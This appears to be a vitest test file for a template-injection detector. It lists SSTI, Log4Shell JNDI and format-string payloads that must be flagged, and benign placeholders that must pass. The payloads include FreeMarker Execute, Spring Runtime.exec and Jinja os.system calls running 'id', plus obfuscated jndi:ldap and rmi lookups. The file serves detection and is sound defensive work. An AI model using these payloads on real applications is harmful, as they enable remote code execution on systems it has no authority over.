import { expect, it } from 'vitest'
import { split } from '../testing/attempt.ts'
import { template } from './index.ts'

it('finds expressions that compute or reach, lookups, and directives', () => {
  const attacks = [
    '{{7*7}}',
    '{{1337*1338}}',
    '<#assign ex = "freemarker.template.utility.Execute"?new()>${ ex("id")}',
    `aaaa'+#{16*8787}+'bbb`,
    '${7*7}',
    '${jndi:ldap://x/a}',
    '${${lower:j}ndi:ldap://x}',
    '${${::-j}${::-n}${::-d}${::-i}:rmi://x}',
    '<%= 7*7 %>',
    "{{''.__class__.__mro__}}",
    '{{config}}',
    "{{constructor.constructor('alert(1)')()}}",
    '{php}echo 1;{/php}',
    '{system("id")}',
    "#set($x='')$x.getClass()",
    '${T(java.lang.Runtime).getRuntime().exec("id")}',
    '%{(#a=@java.lang.Runtime@getRuntime())}',
    '*{7*7}',
    '@(7*7)',
    '{{[].class}}',
    '{{ self.__init__ }}',
    "{{['id']|map('system')}}",
    '%n%n%n',
    '%s%s%s%s%s%s%s',
    '{0.__class__}',
    '${@print(md5(31337))}',
    '<%= system("id") %>',
    "{% import os %}{{os.system('id')}}",
    '{{#with "s" as |string|}}',
    '${alert(1)}',
    "{{7*'7'}}",
    '${jndi:${lower:l}dap://x',
    '{7*7}',
    '[#assign x="freemarker.template.utility.Execute"?new()]',
  ]
  expect(split(template, attacks).passed).toEqual([])
})

it('passes placeholders, and code that has braces', () => {
  const texts = [
    '{{name}}',
    'Hello {{ user.first_name | upper }}',
    '{% if user %}x{% endif %}',
    '${name}',
    '${user.name}',
    '{{#each items}}',
    'const x = `${a} ${b.c(d)}`',
    '{ "a": 1 }',
    '#{name}',
    'a{1,2}',
    '<%= title %>',
    '{{2020-2021}}',
    '100%',
    '%s and %d',
    '@(me)',
    'function f() { return 1 }',
    '#1 (first)',
    '<# comment',
    '{{ date | date("Y-m-d") }}',
    '{{ formatDate(x) }}',
    '#include <stdio.h>',
  ]
  expect(split(template, texts).found).toEqual([])
})
